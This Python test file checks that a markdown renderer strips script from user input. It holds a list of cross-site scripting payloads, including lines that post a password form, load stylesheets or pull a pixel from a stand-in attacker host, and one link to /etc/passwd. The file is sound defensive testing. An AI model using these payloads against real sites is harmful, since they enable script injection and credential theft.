"""Markdown from people: it is rendered, and it carries no script whatever is in it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringbeam.web.markdown import PICTURE, SCHEMES, TAGS, markdown, plain

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '[x](https://a.example "\\" onmouseover=alert(1) ")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```js onload=alert(1)\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
ALLOWED = {"href", "title", "rel", "alt"}


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(str(html))

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def harmless(html):
    """Every element and attribute is expected, and every link leads to a known scheme."""
    for tag, attrs in Elements(html).found:
        target = (attrs.get("href") or "").strip().lower()
        scheme = target.partition(":")[0] if ":" in target.split("/")[0] else ""
        if tag == "img" and not PICTURE.fullmatch(attrs.pop("src", "")):
            return False
        if tag not in TAGS or set(attrs) - ALLOWED or (scheme and scheme not in SCHEMES):
            return False
    return True


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_known_attack_comes_out_harmless(text):
    assert harmless(markdown(text))


@given(st.text(alphabet="<>\"'`[]()!&#;:/=\\ \n\tabjsonclikrvp*_|-", max_size=80))
def test_no_text_comes_out_harmful(text):
    assert harmless(markdown(text))


@given(
    st.lists(st.sampled_from(PAYLOADS), max_size=3),
    st.sampled_from(["", "\n", "> ", "* ", "`"]),
)
def test_attacks_put_together_come_out_harmless(parts, between):
    assert harmless(markdown(between.join(parts)))


def test_the_check_itself_sees_what_is_harmful():
    assert not harmless("<script>x</script>")
    assert not harmless("<p onclick='x'>x</p>")
    assert not harmless("<a href='javascript:x'>x</a>")
    assert not harmless("<img src='https://evil.example/x.png'>")
    assert not harmless("<img onerror='x'>")


def test_what_people_write_is_rendered():
    html = markdown(
        "Since **today** in *hall B*:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    tags = [tag for tag, _attrs in Elements(html).found]
    assert {"strong", "em", "ul", "li", "table", "td"} <= set(tags)


def test_a_line_break_stays_one():
    assert "<br" in markdown("one\ntwo")


def test_a_link_tells_nobody_where_one_came_from():
    [(_tag, attrs)] = [
        one for one in Elements(markdown("[a](https://a.example)")).found if one[0] == "a"
    ]
    assert {"noopener", "nofollow"} <= set(attrs["rel"].split())


def test_the_beginning_as_plain_words_has_no_marks_and_an_end():
    assert plain("**One** two") == "One two"
    long = plain("word " * 100, 20)
    assert len(long) <= 20
    assert long.endswith("…")
